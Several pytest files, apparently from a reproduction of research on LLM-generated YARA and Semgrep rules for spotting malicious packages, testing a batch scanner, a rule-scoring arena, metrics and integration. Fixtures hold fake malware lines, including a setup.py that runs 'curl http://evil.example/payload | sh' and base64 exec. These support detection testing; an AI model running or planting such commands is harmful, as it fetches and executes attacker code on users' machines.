        indexed = RuleScanner.with_index(yara_rules=yara, semgrep_rules=semgrep)
        assert indexed.index is not None
        for package in small_dataset.packages:
            a = naive.scan_package(package)
            b = indexed.scan_package(package)
            assert (a.yara_rules, a.semgrep_rules) == (b.yara_rules, b.semgrep_rules)

    def test_scan_exposes_timings(self, generated_rules, small_dataset):
        scanner = RuleScanner(yara_rules=generated_rules.compile_yara())
        result = scanner.scan(small_dataset.packages[:5])
        assert result.timings.packages == 5
        assert result.timings.total_seconds > 0
        assert result.timings.yara_seconds > 0
        assert all(d.scan_seconds >= 0 for d in result.detections)


# -- CLI ----------------------------------------------------------------------------


class TestScanBatchCli:
    @pytest.fixture()
    def rules_dir(self, tmp_path, generated_rules):
        return str(generated_rules.save(tmp_path / "rules"))

    @pytest.fixture()
    def package_root(self, tmp_path):
        root = tmp_path / "pkgs"
        evil = root / "evil-pkg"
        evil.mkdir(parents=True)
        (evil / "setup.py").write_text(
            "import base64, os\n"
            'exec(base64.b64decode("aW1wb3J0IG9z"))\n'
            'os.system("curl http://evil.example/payload | sh")\n',
            encoding="utf-8",
        )
        nice = root / "nice-pkg"
        nice.mkdir()
        (nice / "lib.py").write_text("def add(a, b):\n    return a + b\n", encoding="utf-8")
        return root

    def test_scan_batch_cli(self, rules_dir, package_root, tmp_path, capsys):
        report_path = tmp_path / "report.json"
        exit_code = cli_main(
            [
                "scan-batch",
                "--rules",
                rules_dir,
                "--shards",
                "2",
                "--mode",
                "inprocess",
                "--json",
                str(report_path),
                str(package_root),
            ]
        )
        output = capsys.readouterr().out
        assert "published ruleset v1" in output
        assert "pkg/s" in output
        report = json.loads(report_path.read_text(encoding="utf-8"))
        assert report["packages"] == 2
        assert exit_code in (0, 2)

    def test_scan_batch_cli_no_rules(self, tmp_path, package_root):
        assert (
            cli_main(
                ["scan-batch", "--rules", str(tmp_path / "none"), str(package_root)]
            )
            == 1
        )
