"""ArenaRunner integration: round scoring over a real scan service, bounded
history with on-disk persistence, auto mode on the registry's publish bus
(drain-on-stop), and the retire-without-refeed path."""

from __future__ import annotations

import json
import time

import pytest

from repro.arena import (
    ArenaConfig,
    ArenaRunner,
    Leaderboard,
    LifecyclePolicy,
    ReplayTraffic,
    TrafficConfig,
)
from repro.corpus.package import MALWARE, Package, PackageFile, PackageMetadata
from repro.scanserve import ScanService, ScanServiceConfig
from repro.yarax import compile_source

NEEDLE = "arena_runner_needle"


def _malware(name: str, payload: str) -> Package:
    return Package(
        name=name,
        version="1.0",
        metadata=PackageMetadata(name=name),
        files=[PackageFile(path=f"{name}.py", content=payload)],
        label=MALWARE,
        family="arena-runner-test",
    )


def _service_with_rules() -> ScanService:
    """An in-process service with one firing and one silent rule."""
    service = ScanService(
        config=ScanServiceConfig(mode="inprocess", match_threshold=1)
    )
    service.registry.publish(
        yara=compile_source(
            f'rule hits {{ strings: $a = "{NEEDLE}" condition: $a }}\n'
            'rule silent { strings: $a = "never_in_any_traffic" condition: $a }'
        ),
        label="runner-test",
    )
    return service


def _traffic() -> ReplayTraffic:
    malware = [
        _malware("mal-a", f"x = '{NEEDLE}'"),
        _malware("mal-b", f"y = '{NEEDLE}'; import os"),
    ]
    return ReplayTraffic(
        malware,
        TrafficConfig(seed=17, packages_per_round=10, chunk_size=4,
                      rename_probability=1.0),
    )


class TestRunRound:
    def test_round_scores_and_ranks(self, tmp_path):
        service = _service_with_rules()
        runner = ArenaRunner(
            service,
            _traffic(),
            leaderboard=Leaderboard(path=tmp_path / "board.json"),
            config=ArenaConfig(policy="strict", refeed=False),
        )
        record = runner.run_round()
        assert record.version == 1
        assert record.packages == 10
        assert record.malicious + record.benign == 10
        by_rule = {s.rule: s for s in record.scores}
        assert set(by_rule) == {"hits", "silent"}
        assert by_rule["hits"].score == 1.0  # every malicious variant carries it
        assert by_rule["silent"].score == 0.0
        assert runner.leaderboard.entry(service.registry.namespace, "hits").rank == 1

    def test_two_runners_agree(self):
        records = []
        for _ in range(2):
            runner = ArenaRunner(
                _service_with_rules(), _traffic(),
                config=ArenaConfig(policy="strict", refeed=False),
            )
            records.append(runner.run_round())
        assert [s.to_dict() for s in records[0].scores] == [
            s.to_dict() for s in records[1].scores
        ]

    def test_history_is_bounded_and_persisted(self, tmp_path):
        history_path = tmp_path / "rounds.json"
        runner = ArenaRunner(
            _service_with_rules(), _traffic(),
            config=ArenaConfig(policy="strict", refeed=False, history_limit=2),
            history_path=history_path,
        )
        for _ in range(4):
            runner.run_round()
        assert [r.index for r in runner.history] == [2, 3]
        saved = json.loads(history_path.read_text(encoding="utf-8"))
        assert [r["index"] for r in saved["rounds"]] == [2, 3]

    def test_decay_statuses_reach_the_saved_board(self, tmp_path):
        board_path = tmp_path / "board.json"
        runner = ArenaRunner(
            _service_with_rules(), _traffic(),
            leaderboard=Leaderboard(path=board_path),
            policy=LifecyclePolicy(flag_after=1, quarantine_after=2,
                                   retire_after=3),
            config=ArenaConfig(policy="strict", refeed=False),
        )
        runner.run_round()  # silent decays -> flagged
        reloaded = Leaderboard(path=board_path)
        namespace = runner.registry.namespace
        assert reloaded.entry(namespace, "silent").status == "flagged"
        runner.run_round()
        runner.run_round()  # third consecutive decay -> retired
        assert runner.tracker.retired_rules() == ["silent"]
        reloaded = Leaderboard(path=board_path)
        assert reloaded.entry(namespace, "silent").status == "retired"

    def test_retire_without_refeed_keeps_version(self):
        runner = ArenaRunner(
            _service_with_rules(), _traffic(),
            policy=LifecyclePolicy(flag_after=1, quarantine_after=1,
                                   retire_after=1),
            config=ArenaConfig(policy="strict", refeed=False),
        )
        record = runner.run_round()
        assert record.retired_rules == ["silent"]
        assert record.refeed_version is None
        assert runner.registry.versions() == [1]  # measurement only, no publish

    def test_refeed_without_sources_or_misses_is_a_noop(self):
        # every malicious package is detected -> empty refinement corpus;
        # no registered sources -> nothing to republish either
        runner = ArenaRunner(
            _service_with_rules(), _traffic(),
            policy=LifecyclePolicy(flag_after=1, quarantine_after=1,
                                   retire_after=1),
            config=ArenaConfig(policy="strict", refeed=True),
        )
        record = runner.run_round()
        assert record.retired_rules == ["silent"]
        assert record.refeed_version is None
        assert record.retired_version is None
        assert runner.registry.versions() == [1]


class TestAutoMode:
    def test_activated_publish_triggers_a_round(self):
        service = _service_with_rules()
        runner = ArenaRunner(
            service, _traffic(), config=ArenaConfig(policy="strict", refeed=False)
        ).start()
        try:
            service.registry.publish(
                yara=compile_source(
                    f'rule hits2 {{ strings: $a = "{NEEDLE}" condition: $a }}'
                ),
                label="nightly",
            )
            deadline = time.monotonic() + 30
            while not runner.history:
                assert time.monotonic() < deadline, "auto round never ran"
                time.sleep(0.02)
        finally:
            runner.stop(drain=True)
        assert runner.history[0].version == 2
        assert {s.rule for s in runner.history[0].scores} == {"hits2"}

    def test_stop_drains_queued_rounds(self):
        service = _service_with_rules()
        runner = ArenaRunner(
            service, _traffic(), config=ArenaConfig(policy="strict", refeed=False)
        )
        # queue without the worker running, then start -> stop(drain=True)
        runner._pending.put(1)
        runner._pending.put(1)
        runner.start()
        runner.stop(drain=True)
        assert len(runner.history) == 2
        assert runner.pending_rounds == 0

    def test_double_start_rejected(self):
        runner = ArenaRunner(
            _service_with_rules(), _traffic(),
            config=ArenaConfig(refeed=False),
        ).start()
        try:
            with pytest.raises(RuntimeError):
                runner.start()
        finally:
            runner.stop()
