"""repro.obs metrics: the labeled registry (counters, gauges, log-bucketed
histograms), the Prometheus text exposition golden, and the span/table
renderers behind ``rulellm obs``."""

import pytest

from repro.obs import (
    DEFAULT_BUCKETS,
    MetricsRegistry,
    format_metrics_table,
    format_span_tree,
    get_registry,
    render_prometheus,
    slowest_spans,
    span_forest,
)
from repro.obs.metrics import HistogramChild


class TestCounters:
    def test_unlabeled_counter(self):
        registry = MetricsRegistry()
        counter = registry.counter("c_total", "help")
        counter.inc()
        counter.inc(2.5)
        assert counter.labels().value == 3.5

    def test_labeled_counter_children_are_independent(self):
        registry = MetricsRegistry()
        counter = registry.counter("c_total", "help", ("lane",))
        counter.inc(lane="a")
        counter.inc(3, lane="b")
        assert counter.labels(lane="a").value == 1
        assert counter.labels(lane="b").value == 3

    def test_counters_only_go_up(self):
        registry = MetricsRegistry()
        with pytest.raises(ValueError):
            registry.counter("c_total").inc(-1)

    def test_wrong_label_set_rejected(self):
        registry = MetricsRegistry()
        counter = registry.counter("c_total", "help", ("lane",))
        with pytest.raises(ValueError):
            counter.inc(wrong="x")
        with pytest.raises(ValueError):
            counter.labels()

    def test_get_or_create_returns_the_same_family(self):
        registry = MetricsRegistry()
        first = registry.counter("c_total", "help", ("lane",))
        again = registry.counter("c_total", "help", ("lane",))
        assert first is again

    def test_re_registration_with_different_shape_fails(self):
        registry = MetricsRegistry()
        registry.counter("c_total", "help", ("lane",))
        with pytest.raises(ValueError):
            registry.counter("c_total", "help", ("other",))
        with pytest.raises(ValueError):
            registry.gauge("c_total")

    def test_reset_clears_values_keeps_families(self):
        registry = MetricsRegistry()
        counter = registry.counter("c_total")
        counter.inc(5)
        registry.reset()
        assert registry.get("c_total") is counter
        assert counter.labels().value == 0


class TestGauges:
    def test_set_inc_dec(self):
        registry = MetricsRegistry()
        gauge = registry.gauge("g", "help")
        gauge.set(10)
        gauge.inc(2)
        gauge.dec(5)
        assert gauge.labels().value == 7.0


class TestHistograms:
    def test_default_buckets_are_log_spaced(self):
        assert DEFAULT_BUCKETS[0] == 0.001
        assert DEFAULT_BUCKETS[-1] == pytest.approx(0.001 * 2 ** 16)
        assert len(DEFAULT_BUCKETS) == 17

    def test_observe_and_snapshot(self):
        child = HistogramChild(buckets=(0.5, 2.0))
        for value in (0.25, 1.0, 5.0):
            child.observe(value)
        counts, total, total_sum, observed_max = child.snapshot()
        assert counts == [1, 1, 1]  # per-bucket + overflow
        assert total == 3
        assert total_sum == pytest.approx(6.25)
        assert observed_max == 5.0
        assert child.count == 3

    def test_quantiles_match_the_gateway_math(self):
        # same observations the gateway's /metrics golden test uses: the
        # histogram math moved here and must keep producing those numbers
        child = HistogramChild()
        for value in (0.0005, 0.0012, 0.003, 0.0031, 0.02, 0.25, 1.5, 70.0, 0.0):
            child.observe(value)
        assert round(child.quantile(0.50), 6) == 0.0035
        assert round(child.quantile(0.99), 6) == 69.59824
        assert child.quantile(0.0) == 0.0

    def test_empty_histogram_quantile_is_none(self):
        child = HistogramChild()
        assert child.quantile(0.5) is None
        with pytest.raises(ValueError):
            child.quantile(1.5)

    def test_bucket_bounds_must_be_positive(self):
        with pytest.raises(ValueError):
            HistogramChild(buckets=(0.0, 1.0))
        with pytest.raises(ValueError):
            HistogramChild(buckets=())


class TestPrometheusExposition:
    def _registry(self) -> MetricsRegistry:
        registry = MetricsRegistry()
        jobs = registry.counter("repro_jobs_total", "Jobs by kind.", ("kind",))
        jobs.inc(kind="scan")
        jobs.inc(2, kind="generate")
        registry.gauge("repro_queue_depth", "Current queue depth.").set(3)
        latency = registry.histogram(
            "repro_job_seconds", "Job latency.", ("kind",), buckets=(0.5, 2.0)
        )
        for value in (0.25, 1.0, 5.0):
            latency.observe(value, kind="scan")
        return registry

    def test_golden_exposition(self):
        expected = (
            "# HELP repro_job_seconds Job latency.\n"
            "# TYPE repro_job_seconds histogram\n"
            'repro_job_seconds_bucket{kind="scan",le="0.5"} 1\n'
            'repro_job_seconds_bucket{kind="scan",le="2"} 2\n'
            'repro_job_seconds_bucket{kind="scan",le="+Inf"} 3\n'
            'repro_job_seconds_sum{kind="scan"} 6.25\n'
            'repro_job_seconds_count{kind="scan"} 3\n'
            "# HELP repro_jobs_total Jobs by kind.\n"
            "# TYPE repro_jobs_total counter\n"
            'repro_jobs_total{kind="generate"} 2\n'
            'repro_jobs_total{kind="scan"} 1\n'
            "# HELP repro_queue_depth Current queue depth.\n"
            "# TYPE repro_queue_depth gauge\n"
            "repro_queue_depth 3\n"
        )
        assert render_prometheus(self._registry()) == expected

    def test_label_values_are_escaped(self):
        registry = MetricsRegistry()
        registry.counter("c_total", "h", ("name",)).inc(
            name='we"ird\\label\nvalue'
        )
        text = render_prometheus(registry)
        assert 'c_total{name="we\\"ird\\\\label\\nvalue"} 1\n' in text

    def test_empty_registry_renders_empty(self):
        assert render_prometheus(MetricsRegistry()) == ""

    def test_global_registry_is_a_singleton(self):
        assert get_registry() is get_registry()

    def test_snapshot_shape(self):
        snapshot = self._registry().snapshot()
        assert set(snapshot) == {
            "repro_job_seconds", "repro_jobs_total", "repro_queue_depth",
        }
        histogram = snapshot["repro_job_seconds"]
        assert histogram["type"] == "histogram"
        (series,) = histogram["series"]
        assert series["labels"] == {"kind": "scan"}
        assert series["count"] == 3
        assert series["overflow"] == 1
        assert series["buckets"] == [
            {"le": 0.5, "count": 1},
            {"le": 2.0, "count": 1},
        ]
        counter = snapshot["repro_jobs_total"]
        assert {tuple(s["labels"].items()): s["value"] for s in counter["series"]} == {
            (("kind", "generate"),): 2.0,
            (("kind", "scan"),): 1.0,
        }

    def test_metrics_table_renders_every_family(self):
        table = format_metrics_table(self._registry().snapshot())
        assert "repro_jobs_total (counter)" in table
        assert "{kind=generate}" in table
        assert "count=3" in table
        assert "repro_queue_depth (gauge)" in table


_RECORDS = [
    {"trace_id": "t1", "span_id": "a", "parent_id": None, "name": "root",
     "start": 1.0, "seconds": 0.004, "status": "ok", "attrs": {"n": 2}},
    {"trace_id": "t1", "span_id": "b", "parent_id": "a", "name": "first",
     "start": 1.1, "seconds": 0.001, "status": "ok", "attrs": {}},
    {"trace_id": "t1", "span_id": "c", "parent_id": "a", "name": "second",
     "start": 1.2, "seconds": 0.0005, "status": "error", "attrs": {}},
]


class TestSpanRendering:
    def test_span_forest_builds_the_tree(self):
        (root,) = span_forest(_RECORDS)
        assert root["name"] == "root"
        assert [child["name"] for child in root["children"]] == [
            "first", "second",
        ]

    def test_orphans_become_roots(self):
        orphan = {"trace_id": "t2", "span_id": "z", "parent_id": "missing",
                  "name": "lost", "start": 2.0, "seconds": 0.1,
                  "status": "ok", "attrs": {}}
        roots = span_forest(_RECORDS + [orphan])
        assert sorted(r["name"] for r in roots) == ["lost", "root"]

    def test_format_span_tree_golden(self):
        expected = (
            "trace t1\n"
            "root  4.0ms  [n=2]\n"
            "├─ first  1.0ms\n"
            "└─ second  0.5ms !error\n"
        )
        assert format_span_tree(_RECORDS) == expected

    def test_format_span_tree_filters_by_trace(self):
        assert format_span_tree(_RECORDS, trace_id="nope") == ""

    def test_slowest_spans_ranks_by_duration(self):
        assert [r["name"] for r in slowest_spans(_RECORDS, limit=2)] == [
            "root", "first",
        ]
        assert slowest_spans(_RECORDS, limit=0) == []
