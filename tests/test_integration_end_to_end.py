"""Integration tests across the whole system (corpus -> pipeline -> evaluation)."""

from repro.core import RuleLLM, RuleLLMConfig
from repro.corpus import DatasetConfig, build_dataset
from repro.evaluation.detector import RuleScanner
from repro.evaluation.experiments import ExperimentSuite
from repro.evaluation.variants import variant_detection_experiment


def test_experiment_suite_smoke_on_small_corpus():
    suite = ExperimentSuite(DatasetConfig.small())
    table6 = suite.table6_dataset()
    assert "Malware" in table6.render()

    table8 = suite.table8_baselines()
    rendered = table8.render()
    assert "RuleLLM" in rendered and "Yara scanner" in rendered
    rulellm = table8.row("RuleLLM").metrics
    yara_scanner = table8.row("Yara scanner").metrics
    semgrep_scanner = table8.row("Semgrep scanner").metrics
    # headline qualitative result: RuleLLM outperforms the existing-rule scanners
    assert rulellm.f1 > yara_scanner.f1
    assert rulellm.f1 > semgrep_scanner.f1
    assert rulellm.recall > max(yara_scanner.recall, semgrep_scanner.recall)

    table11 = suite.table11_rule_counts()
    assert table11.yara_generated == suite.ruleset.counts()["yara"]

    table12 = suite.table12_taxonomy()
    assert table12.total_labels >= len(suite.ruleset.rules)

    fig5 = suite.figure5_yara_matched_curve()
    assert fig5.curve.points[0].matched_rules == 1

    fig7 = suite.figure7_yara_precision()
    assert sum(count for _label, count in fig7.series) + fig7.zero_match_rules == len(suite.yara_rule_stats)

    fig9 = suite.figure9_yara_coverage()
    assert fig9.cdf.rule_count == len(suite.yara_rule_stats)

    fig11 = suite.figure11_overlap()
    assert len(fig11.overlap.matrix) == 11

    assert "detection rate" in suite.variant_detection(max_groups=3).render()


def test_variant_detection_on_small_corpus():
    dataset = build_dataset(DatasetConfig.small())
    result = variant_detection_experiment(dataset.malware, RuleLLMConfig.full(),
                                          max_groups=4, min_group_size=3)
    assert result.groups, "expected at least one group large enough to evaluate"
    assert 0.0 <= result.overall_detection_rate <= 1.0
    assert 0.0 <= result.average_detection_rate <= 1.0
    for group in result.groups:
        assert group.detected <= group.variants
        assert len(group.seeds) <= 2


def test_rules_written_to_disk_can_be_rescanned(tmp_path, generated_rules, small_dataset):
    generated_rules.save(tmp_path)
    from repro.core.rules import GeneratedRuleSet
    loaded = GeneratedRuleSet.load(tmp_path)
    scanner = RuleScanner(yara_rules=loaded.compile_yara(), semgrep_rules=loaded.compile_semgrep())
    metrics = scanner.evaluate(small_dataset.packages)
    assert metrics.recall > 0.5


def test_different_model_profiles_produce_different_rule_sets(malware_packages):
    gpt = RuleLLM(RuleLLMConfig.full(model="gpt-4o")).generate_rules(malware_packages)
    llama = RuleLLM(RuleLLMConfig.full(model="llama-3.1-70b")).generate_rules(malware_packages)
    assert gpt.model == "gpt-4o" and llama.model == "llama-3.1-70b"
    gpt_text = "\n".join(rule.text for rule in gpt.rules)
    llama_text = "\n".join(rule.text for rule in llama.rules)
    assert gpt_text != llama_text


def test_pipeline_is_reproducible(malware_packages):
    a = RuleLLM(RuleLLMConfig.full(seed=99)).generate_rules(malware_packages)
    b = RuleLLM(RuleLLMConfig.full(seed=99)).generate_rules(malware_packages)
    assert [rule.text for rule in a.rules] == [rule.text for rule in b.rules]
