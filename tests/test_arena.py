"""Unit coverage of the arena building blocks: replay traffic determinism,
scoring-policy edge cases (silent rules, benign-only traffic, tie-break
stability), cross-batch stat merging, leaderboard persistence and rank
deltas, and the lifecycle escalation walk with its refinement corpus."""

from __future__ import annotations

import pytest

from repro.arena.leaderboard import Leaderboard, LeaderboardEntry
from repro.arena.lifecycle import (
    ACTIVE,
    FLAG,
    FLAGGED,
    QUARANTINE,
    QUARANTINED,
    RECOVER,
    RETIRE,
    RETIRED,
    LifecyclePolicy,
    LifecycleTracker,
    RefinementCorpus,
)
from repro.arena.scoring import (
    SCORING_POLICIES,
    RuleScore,
    ScoringContext,
    get_policy,
    score_rules,
    scoring_policy,
)
from repro.arena.traffic import (
    ReplayTraffic,
    TrafficConfig,
    mutate_package,
    obfuscate_source,
)
from repro.corpus.package import BENIGN, MALWARE, Package, PackageFile, PackageMetadata
from repro.evaluation.per_rule import (
    PerRuleStats,
    merge_per_rule_stats,
    precision_histogram,
)
from repro.utils.seeding import DeterministicRandom


def _malware(name: str, payload: str) -> Package:
    return Package(
        name=name,
        version="1.0",
        metadata=PackageMetadata(name=name),
        files=[PackageFile(path=f"{name}.py", content=payload)],
        label=MALWARE,
        family="arena-test",
    )


@pytest.fixture()
def seed_malware():
    return [
        _malware("mal-a", "import os\nos.system('curl evil')"),
        _malware("mal-b", "exec(bytes.fromhex('41'))"),
        _malware("mal-c", "import socket\nsocket.create_connection(('c2', 80))"),
    ]


# -- traffic ------------------------------------------------------------------------
class TestReplayTraffic:
    def test_same_config_streams_identical_rounds(self, seed_malware):
        config = TrafficConfig(seed=7, packages_per_round=12, obfuscation_step=0.5)
        one = ReplayTraffic(seed_malware, config)
        two = ReplayTraffic(seed_malware, config)
        for round_index in range(3):
            left = one.round_packages(round_index)
            right = two.round_packages(round_index)
            assert [p.identifier for p in left] == [p.identifier for p in right]
            assert [p.signature for p in left] == [p.signature for p in right]

    def test_different_rounds_differ(self, seed_malware):
        traffic = ReplayTraffic(seed_malware, TrafficConfig(seed=7))
        first = [p.signature for p in traffic.round_packages(0)]
        second = [p.signature for p in traffic.round_packages(1)]
        assert first != second

    def test_malicious_ratio_respected_roughly(self, seed_malware):
        traffic = ReplayTraffic(
            seed_malware,
            TrafficConfig(seed=11, packages_per_round=80, malicious_ratio=0.5),
        )
        packages = traffic.round_packages(0)
        malicious = sum(1 for p in packages if p.is_malicious)
        assert 0.3 <= malicious / len(packages) <= 0.7

    def test_benign_only_traffic(self, seed_malware):
        traffic = ReplayTraffic([], TrafficConfig(seed=3, malicious_ratio=0.0))
        packages = traffic.round_packages(0)
        assert packages and all(p.label == BENIGN for p in packages)

    def test_empty_malware_with_ratio_rejected(self):
        with pytest.raises(ValueError):
            ReplayTraffic([], TrafficConfig(malicious_ratio=0.5))

    def test_chunking_covers_the_round(self, seed_malware):
        traffic = ReplayTraffic(
            seed_malware, TrafficConfig(seed=5, packages_per_round=10, chunk_size=4)
        )
        chunks = list(traffic.round_chunks(0))
        assert [len(c) for c in chunks] == [4, 4, 2]

    def test_obfuscation_probability_escalates_and_clamps(self, seed_malware):
        traffic = ReplayTraffic(
            seed_malware,
            TrafficConfig(seed=5, obfuscation_base=0.25, obfuscation_step=0.5),
        )
        assert traffic.obfuscation_probability(0) == 0.25
        assert traffic.obfuscation_probability(1) == 0.75
        assert traffic.obfuscation_probability(5) == 1.0

    def test_wrap_hides_payload_but_is_reproducible(self, seed_malware):
        base = seed_malware[0]
        rng = DeterministicRandom(1, "t")
        wrapped = mutate_package(base, rng, wrap=True)
        assert "os.system" not in wrapped.all_text
        assert "base64" in wrapped.all_text
        # same base content -> byte-identical blob, regardless of rng state
        again = obfuscate_source(base.files[0].content)
        assert wrapped.files[0].content == again

    def test_plain_reupload_keeps_content(self, seed_malware):
        base = seed_malware[0]
        plain = mutate_package(base, DeterministicRandom(1, "t"), wrap=False)
        assert [f.content for f in plain.files] == [f.content for f in base.files]
        assert plain.is_malicious


# -- scoring ------------------------------------------------------------------------
class TestScoringPolicies:
    def test_policy_table_has_builtins(self):
        assert {"strict", "lenient", "weighted"} <= set(SCORING_POLICIES)

    def test_unknown_policy_is_lookup_error(self):
        with pytest.raises(LookupError, match="unknown scoring policy"):
            get_policy("nope")

    def test_decorator_registers_custom_policy(self):
        @scoring_policy("test-only-paranoid")
        def paranoid(stats, context):
            return 0.0 if stats.benign_matches else 1.0

        try:
            assert get_policy("test-only-paranoid") is paranoid
            assert paranoid.policy_name == "test-only-paranoid"
        finally:
            del SCORING_POLICIES["test-only-paranoid"]

    def test_silent_rule_scores(self):
        silent = PerRuleStats(rule="quiet")
        context = ScoringContext()
        assert get_policy("strict")(silent, context) == 0.0
        assert get_policy("weighted")(silent, context) == 0.0
        assert get_policy("lenient")(silent, context) == 0.5  # neutral prior

    def test_benign_only_matches(self):
        noisy = PerRuleStats(rule="noisy", benign_matches=4)
        context = ScoringContext(benign_packages=4)
        assert get_policy("strict")(noisy, context) == 0.0
        assert get_policy("weighted")(noisy, context) == 0.0
        assert get_policy("lenient")(noisy, context) == pytest.approx(1 / 6)

    def test_weighted_rewards_coverage(self):
        narrow = PerRuleStats(rule="narrow", malicious_matches=1)
        broad = PerRuleStats(rule="broad", malicious_matches=9)
        context = ScoringContext(coverage_saturation=3)
        weighted = get_policy("weighted")
        assert weighted(broad, context) > weighted(narrow, context)
        assert weighted(broad, context) == pytest.approx(9 / 12)

    def test_score_rules_tie_break_is_stable(self):
        stats = [
            PerRuleStats(rule=name, malicious_matches=2)
            for name in ("zeta", "alpha", "mid")
        ]
        first = score_rules(stats, policy="strict")
        second = score_rules(list(reversed(stats)), policy="strict")
        assert [s.rule for s in first] == ["alpha", "mid", "zeta"]
        assert [s.rule for s in first] == [s.rule for s in second]

    def test_scores_clamped_to_unit_interval(self):
        @scoring_policy("test-only-wild")
        def wild(stats, context):
            return 7.5

        try:
            verdicts = score_rules(
                [PerRuleStats(rule="r", malicious_matches=1)], policy="test-only-wild"
            )
            assert verdicts[0].score == 1.0
        finally:
            del SCORING_POLICIES["test-only-wild"]


# -- per-rule merging (evaluation satellite) ----------------------------------------
class TestMergePerRuleStats:
    def test_counts_sum_across_groups(self):
        merged = merge_per_rule_stats([
            [PerRuleStats("a", malicious_matches=2, benign_matches=1)],
            [
                PerRuleStats("a", malicious_matches=3),
                PerRuleStats("b", benign_matches=4),
            ],
        ])
        assert [(s.rule, s.malicious_matches, s.benign_matches) for s in merged] == [
            ("a", 5, 1),
            ("b", 0, 4),
        ]

    def test_empty_input(self):
        assert merge_per_rule_stats([]) == []
        assert merge_per_rule_stats([[], []]) == []

    def test_result_sorted_by_rule_name(self):
        merged = merge_per_rule_stats([
            [PerRuleStats("z"), PerRuleStats("a")],
            [PerRuleStats("m")],
        ])
        assert [s.rule for s in merged] == ["a", "m", "z"]

    def test_histogram_guards(self):
        empty = precision_histogram([])
        assert empty.counts == [0] * 10
        assert empty.zero_match_rules == 0
        with pytest.raises(ValueError):
            precision_histogram([], bins=0)


# -- leaderboard --------------------------------------------------------------------
def _verdict(rule: str, score: float) -> RuleScore:
    return RuleScore(
        rule=rule,
        score=score,
        precision=score,
        coverage=1,
        malicious_matches=1,
        benign_matches=0,
        policy="strict",
    )


class TestLeaderboard:
    def test_record_round_ranks_and_deltas(self):
        board = Leaderboard()
        board.record_round([_verdict("a", 0.9), _verdict("b", 0.5)], 0)
        board.record_round([_verdict("a", 0.1), _verdict("b", 0.8)], 1)
        a, b = board.entry("", "a"), board.entry("", "b")
        assert (b.rank, b.previous_rank, b.rank_delta) == (1, 2, 1)
        assert (a.rank, a.previous_rank, a.rank_delta) == (2, 1, -1)
        assert a.trend == [0.9, 0.1]
        assert a.best_score == 0.9

    def test_tie_break_by_rule_then_namespace(self):
        board = Leaderboard()
        board.record_round([_verdict("b", 0.5), _verdict("a", 0.5)], 0)
        assert [e.rule for e in board.rankings()] == ["a", "b"]

    def test_trend_is_bounded(self):
        board = Leaderboard(trend_limit=3)
        for round_index in range(6):
            board.record_round([_verdict("a", round_index / 10)], round_index)
        assert board.entry("", "a").trend == [0.3, 0.4, 0.5]

    def test_persistence_round_trip(self, tmp_path):
        path = tmp_path / "board.json"
        board = Leaderboard(path=path)
        board.record_round([_verdict("a", 0.9), _verdict("b", 0.2)], 0)
        board.set_status("", "b", "flagged")
        board.save()
        reloaded = Leaderboard(path=path)
        assert len(reloaded) == 2
        assert reloaded.rounds_recorded == 1
        twin = reloaded.entry("", "b")
        assert twin.status == "flagged"
        assert twin.rank == board.entry("", "b").rank
        assert twin.trend == [pytest.approx(0.2)]

    def test_corrupt_file_is_rejected(self, tmp_path):
        path = tmp_path / "board.json"
        path.write_text("{not json", encoding="utf-8")
        with pytest.raises(ValueError, match="unreadable leaderboard"):
            Leaderboard(path=path)

    def test_namespace_filter(self):
        board = Leaderboard()
        board.record_round([_verdict("a", 0.5)], 0, namespace="t1")
        board.record_round([_verdict("a", 0.9)], 1, namespace="t2")
        assert [e.namespace for e in board.rankings(namespace="t1")] == ["t1"]
        assert len(board) == 2

    def test_entry_serialisation_round_trip(self):
        entry = LeaderboardEntry(
            namespace="n", rule="r", score=0.5, rank=2, previous_rank=5,
            status="quarantined", trend=[0.7, 0.5],
        )
        clone = LeaderboardEntry.from_dict(entry.to_dict())
        assert clone.key == entry.key
        assert clone.rank_delta == 3


# -- lifecycle ----------------------------------------------------------------------
class TestLifecycle:
    def test_escalation_walk(self):
        tracker = LifecycleTracker(
            LifecyclePolicy(decay_threshold=0.4, flag_after=1,
                            quarantine_after=2, retire_after=3)
        )
        observed = []
        for round_index in range(4):
            observed.extend(
                a.action for a in tracker.observe([_verdict("r", 0.1)], round_index)
            )
        assert observed == [FLAG, QUARANTINE, RETIRE]
        assert tracker.health("r").status == RETIRED
        assert tracker.retired_rules() == ["r"]

    def test_recovery_resets_the_walk(self):
        tracker = LifecycleTracker(LifecyclePolicy(retire_after=3))
        tracker.observe([_verdict("r", 0.1)], 0)  # flagged
        actions = tracker.observe([_verdict("r", 0.9)], 1)
        assert [a.action for a in actions] == [RECOVER]
        assert tracker.health("r").status == ACTIVE
        assert tracker.health("r").consecutive_decays == 0

    def test_retirement_is_terminal(self):
        tracker = LifecycleTracker(
            LifecyclePolicy(flag_after=1, quarantine_after=1, retire_after=1)
        )
        assert [a.action for a in tracker.observe([_verdict("r", 0.0)], 0)] == [RETIRE]
        assert tracker.observe([_verdict("r", 1.0)], 1) == []
        assert tracker.health("r").status == RETIRED

    def test_policy_validation(self):
        with pytest.raises(ValueError):
            LifecyclePolicy(flag_after=3, quarantine_after=2, retire_after=4)
        with pytest.raises(ValueError):
            LifecyclePolicy(decay_threshold=1.5)

    def test_status_for_thresholds(self):
        policy = LifecyclePolicy(flag_after=1, quarantine_after=2, retire_after=3)
        assert policy.status_for(0) == ACTIVE
        assert policy.status_for(1) == FLAGGED
        assert policy.status_for(2) == QUARANTINED
        assert policy.status_for(99) == RETIRED


class TestRefinementCorpus:
    def test_dedup_by_signature(self, seed_malware):
        corpus = RefinementCorpus()
        assert corpus.add(seed_malware[0]) is True
        assert corpus.add(seed_malware[0]) is False
        assert len(corpus) == 1

    def test_fifo_bound(self, seed_malware):
        corpus = RefinementCorpus(limit=2)
        for package in seed_malware:
            corpus.add(package)
        names = [p.name for p in corpus.packages()]
        assert names == ["mal-b", "mal-c"]

    def test_drain_resets(self, seed_malware):
        corpus = RefinementCorpus()
        corpus.add(seed_malware[0])
        drained = corpus.drain()
        assert [p.name for p in drained] == ["mal-a"]
        assert len(corpus) == 0
