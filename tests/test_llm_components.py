"""Tests for the simulated-LLM substrate: knowledge, analysis, profiles, tokenizer, protocol."""

import pytest

from repro.categories import CATEGORIES
from repro.corpus.package import PackageMetadata
from repro.llm import (
    INDICATOR_CATALOG,
    CodeAnalyzer,
    count_tokens,
    get_profile,
    indicators_for_category,
    truncate_to_tokens,
)
from repro.llm import protocol
from repro.llm.knowledge import AUDIT_CATEGORIES, indicator_by_key, minimum_specificity
from repro.llm.profiles import PROFILES

